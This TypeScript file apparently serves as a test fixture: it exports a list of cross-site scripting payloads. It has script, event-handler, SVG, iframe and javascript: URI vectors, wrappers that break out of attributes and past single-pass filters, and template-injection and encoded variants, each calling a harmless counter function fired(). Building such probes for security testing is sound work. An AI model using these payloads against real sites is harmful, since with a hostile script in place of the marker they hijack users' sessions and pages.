// A hundred ways to run a script where text belongs: each calls `fired()`, which the pages under attack count.
const vectors = [
  '<script>fired()</script>',
  '<script src=data:text/javascript,fired()></script>',
  '<ScRiPt >fired()</sCrIpT>',
  '<img src=x onerror=fired()>',
  '<img src="x" onerror="fired()" />',
  '<img/src/onerror=fired()>',
  '<svg onload=fired()>',
  '<svg><script>fired()</script></svg>',
  '<svg><animate onbegin=fired() attributeName=x dur=1s>',
  '<body onload=fired()>',
  '<input onfocus=fired() autofocus>',
  '<select onfocus=fired() autofocus>',
  '<details open ontoggle=fired()>',
  '<video><source onerror=fired()></video>',
  '<audio src=x onerror=fired()>',
  '<iframe src="javascript:parent.fired()"></iframe>',
  '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
  '<object data="javascript:fired()"></object>',
  '<embed src="javascript:fired()">',
  '<math><mtext><script>fired()</script></mtext></math>',
  '<style>@import "javascript:fired()";</style>',
  '<link rel=stylesheet href="javascript:fired()">',
  '<meta http-equiv=refresh content="0;url=javascript:fired()">',
  '<a href="javascript:fired()" autofocus onfocus=fired()>here</a>',
  '<form><button formaction="javascript:fired()" autofocus onfocus=fired()>x</button></form>',
];

/** Out of an attribute, out of an element that holds text, and past a filter that takes something away once. */
const contexts: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'></title></textarea></style></script>${vector}`,
  (vector) => `<<b>&lt;</b>${vector}`,
];

export const xssPayloads: string[] = contexts.flatMap((wrap) => vectors.map(wrap));

/** Without angle brackets, for text that becomes an address, an attribute or a template. */
export const bareXss = [
  'javascript:fired()',
  'JaVaScRiPt:fired()',
  'java\tscript:fired()',
  ' javascript:fired()',
  'data:text/html,<script>fired()</script>',
  'vbscript:fired()',
  '" onmouseover=fired() x="',
  "' onfocus=fired() autofocus '",
  '`onerror=fired()`',
  '{{constructor.constructor("fired()")()}}',
  `$${'{fired()}'}`,
  '#{fired()}',
  '<%= fired() %>',
  '&lt;script&gt;fired()&lt;/script&gt;',
  '\\u003cscript\\u003efired()\\u003c/script\\u003e',
  '%3Cscript%3Efired()%3C/script%3E',
];
